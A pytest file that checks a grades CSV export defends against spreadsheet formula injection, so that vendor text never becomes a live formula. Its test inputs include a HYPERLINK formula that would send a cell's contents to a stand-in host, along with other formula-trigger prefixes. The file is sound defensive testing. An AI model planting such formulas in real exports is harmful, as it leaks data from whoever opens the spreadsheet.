"""grades.csv as an authority opens it in a spreadsheet: vendor text never becomes a formula."""

from __future__ import annotations

import csv
import io

import pytest

from broker.analytics.api import grades_csv
from broker.analytics.projections.grade_statistics import GradeGroup


def rows(term: str, school: str = "sch-1") -> list[dict[str, str]]:
    group = GradeGroup(key={"school": school, "term": term}, count=7, mean_five_point=4.25,
                       distribution={"5": 3, "4": 4}, passed=0, failed=0, pass_share=None)
    return list(csv.DictReader(io.StringIO(grades_csv(("school", "term"), [group]))))


@pytest.mark.parametrize("term", ['=HYPERLINK("http://x/?"&A1,"q1")', "+1+1", "-1+2", "@SUM(A1)",
                                  "\tq1", "\rq1"])
def test_a_cell_a_spreadsheet_would_run_is_quoted(term):
    [row] = rows(term)
    assert row["term"] == "'" + term


def test_ordinary_cells_and_figures_are_left_as_they_are():
    [row] = rows("2026-q1", school="sch-770001")
    assert (row["school"], row["term"], row["count"], row["mean_five_point"]) == (
        "sch-770001", "2026-q1", "7", "4.25")
    assert (row["pass_share"], row["marks_5"], row["suppressed"]) == ("", "3", "no")
